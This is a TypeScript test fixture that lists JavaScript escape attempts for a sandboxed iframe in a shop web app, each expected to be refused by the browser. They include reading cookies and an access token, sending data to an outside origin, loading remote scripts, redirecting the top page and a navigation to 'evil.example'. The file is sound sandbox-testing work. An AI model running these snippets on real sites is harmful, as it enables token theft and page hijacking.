/*
 * What the code of an isolated remote may try, each the body of an async function that runs in its frame and gets the origin of somebody
 * else's server. It throws or returns `refused` where the browser prevents it; anything else it returns was possible.
 */

/** Reaching for the page around the frame, and for what the browser stores for the shop. */
export const REACHES: Readonly<Record<string, string>> = {
  'reads the document of the page': `return parent.document.title;`,
  'reads the address of the page': `return top.location.href;`,
  'calls a function of the page': `return parent.reportError(new Error('from the frame'));`,
  'finds the frame in the page': `return frameElement === null ? 'refused' : 'done';`,
  'reads the storage of the page': `return parent.localStorage.length;`,
  'reads a cookie': `return document.cookie;`,
  'sets a cookie': `document.cookie = 'ofisi_session_key=mine'; return 'done';`,
  'reads the local storage': `return localStorage.getItem('ofisi_access_token');`,
  'reads the session storage': `return sessionStorage.length;`,
  'opens a database': `return await new Promise((resolve, reject) => {
    const request = indexedDB.open('x');
    request.onsuccess = () => resolve('done');
    request.onerror = () => resolve('refused');
  });`,
  'opens a cache': `return await caches.open('x');`,
  'registers a service worker': `return await navigator.serviceWorker.register('/x.js');`,
  'speaks to other tabs': `
    const channel = new BroadcastChannel('x');
    return origin === 'null' ? 'refused' : 'done';`,
};

/** Sending something out, or getting code in. */
export const SENDS: Readonly<Record<string, string>> = {
  'fetches from elsewhere': `return (await fetch(elsewhere + '/fetch')).status;`,
  'fetches without an answer': `return (await fetch(elsewhere + '/no-cors', { mode: 'no-cors' })).type;`,
  'calls the API itself': `return (await fetch(new URL('/api/view-product-brands', document.baseURI))).status;`,
  'calls the API by XHR': `return await new Promise((resolve, reject) => {
    const call = new XMLHttpRequest();
    call.open('GET', new URL('/api/view-product-brands', document.baseURI));
    call.onload = () => resolve('done');
    call.onerror = () => resolve('refused');
    call.send();
  });`,
  'sends a beacon': `navigator.sendBeacon(elsewhere + '/beacon', 'x'); return 'refused';`,
  'opens a WebSocket': `return await new Promise((resolve) => {
    const socket = new WebSocket(elsewhere.replace('http', 'ws') + '/socket');
    socket.onopen = () => resolve('done');
    socket.onerror = () => resolve('refused');
  });`,
  'opens a stream of events': `return await new Promise((resolve) => {
    const source = new EventSource(elsewhere + '/events');
    source.onopen = () => resolve('done');
    source.onerror = () => (source.close(), resolve('refused'));
  });`,
  'loads a picture from elsewhere': `return await new Promise((resolve) => {
    const picture = new Image();
    picture.onload = () => resolve('done');
    picture.onerror = () => resolve('refused');
    picture.src = elsewhere + '/picture?secret';
  });`,
  'calls the API by a picture': `return await new Promise((resolve) => {
    const picture = new Image();
    picture.onload = () => resolve('done');
    picture.onerror = () => resolve('refused');
    picture.src = new URL('/api/view-product-brands?picture', document.baseURI);
  });`,
  'preloads from elsewhere': `
    for (const rel of ['preload', 'prefetch', 'preconnect', 'stylesheet', 'icon', 'manifest']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: elsewhere + '/' + rel, as: 'script' });
      document.head.append(link);
    }
    return 'refused';`,
  'opens a frame': `
    const frame = document.createElement('iframe');
    frame.src = elsewhere + '/frame';
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return 'refused';`,
  'opens a page of the shop in a frame': `
    const frame = document.createElement('iframe');
    frame.src = new URL('/login', document.baseURI);
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return frame.contentDocument ? 'done' : 'refused';`,
  'submits a form to the API': `
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: new URL('/api/logout', document.baseURI) });
    document.body.append(form);
    form.submit();
    return 'refused';`,
  'opens a window': `return open(elsewhere + '/window') ? 'done' : 'refused';`,
  'opens a window by a link': `
    const link = document.createElement('a');
    Object.assign(link, { href: elsewhere + '/link', target: '_blank' });
    document.body.append(link);
    link.click();
    return 'refused';`,
  'leads the whole page away': `top.location.href = elsewhere + '/top'; return 'done';`,
  'leads the whole page away by a link': `
    const link = document.createElement('a');
    Object.assign(link, { href: elsewhere + '/top-link', target: '_top' });
    document.body.append(link);
    link.click();
    return 'refused';`,
  'downloads a file': `
    const link = document.createElement('a');
    Object.assign(link, { href: 'data:text/plain,x', download: 'x.exe' });
    document.body.append(link);
    link.click();
    return 'refused';`,
  'loads a script from elsewhere': `
    const script = document.createElement('script');
    script.src = elsewhere + '/script.js';
    document.head.append(script);
    return 'refused';`,
  'runs text as code': `return Function('return 1')();`,
  'turns text into markup': `document.body.innerHTML += '<b>x</b>'; return 'done';`,
  'starts a worker': `return new Worker(URL.createObjectURL(new Blob(['1']))) && await new Promise((resolve) => setTimeout(() => resolve('refused'), 100));`,
  'imports a module': `return await import('data:text/javascript,export default 1');`,
};

/** What costs the release its frame; may use the port, see `TAKE_PORT`. */
export const SHUT_BY: Readonly<Record<string, string>> = {
  'leads its frame elsewhere': `location.href = elsewhere + '/frame';`,
  'leads its frame to a page of the shop': `location.href = '/login';`,
  'leads its frame to the API': `location.href = '/api/view-product-brands';`,
  'submits a form elsewhere': `
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: elsewhere + '/form' });
    document.body.append(form);
    form.submit();`,
  'sends what is no message': `say('{"type":"nothing"}');`,
  'sends what is no JSON': `say('{');`,
  'sends an object': `port.postMessage({ type: 'mounted' });`,
  'sends another port': `port.postMessage('{"type":"mounted"}', [new MessageChannel().port1]);`,
  'sends a message of 10 MB': `say({ type: 'title', text: 'x'.repeat(10_000_000) });`,
  'sends a thousand messages': `for (let i = 0; i < 1000; i += 1) say({ type: 'height', px: i });`,
  'speaks past its port': `parent.postMessage('ofisi frame 1', '*');`,
  'asks for an address outside the shop': `say({ type: 'navigate', to: '//evil.example/', replace: false });`,
  'asks for a script': `say({ type: 'navigate', to: 'javascript:alert(1)', replace: false });`,
  'makes a call that is none': `say({ type: 'call', id: 1, method: 'DELETE', path: '/x' });`,
};

/** Asking the browser or the person for something. */
export const ASKS: Readonly<Record<string, string>> = {
  'opens a dialog of the browser': `return confirm('Sure?') || prompt('Password?') ? 'done' : 'refused';`,
  'fills the screen': `await document.documentElement.requestFullscreen(); return 'done';`,
  'takes the pointer': `await document.body.requestPointerLock(); return document.pointerLockElement ? 'done' : 'refused';`,
  'opens the camera': `return await navigator.mediaDevices.getUserMedia({ video: true });`,
  'reads the clipboard': `return await navigator.clipboard.readText();`,
  'writes to the clipboard': `await navigator.clipboard.writeText('x'); return 'done';`,
  'asks where somebody is': `return await new Promise((resolve) =>
    navigator.geolocation.getCurrentPosition(() => resolve('done'), () => resolve('refused')));`,
  'asks for notifications': `return (await Notification.requestPermission()) === 'granted' ? 'done' : 'refused';`,
  'asks for the storage of the shop': `await document.requestStorageAccess(); document.cookie; return 'done';`,
  'asks for a payment': `return new PaymentRequest([{ supportedMethods: 'https://x.example' }], { total: { label: 'x', amount: { currency: 'KES', value: '1' } } }) && 'done';`,
  'asks for a stored password': `return (await navigator.credentials.get({ password: true })) ?? 'refused';`,
};

/** Runs as code of the frame, in a task of its own, because the evaluation itself may run text as code: the result, or how it was refused. */
export const attempt = (body: string, elsewhere: string): string => `new Promise((resolve) => setTimeout(async () => {
  try {
    const elsewhere = ${JSON.stringify(elsewhere)};
    resolve(String(await (async () => { ${body} })()));
  } catch (error) {
    resolve('refused');
  }
}))`;
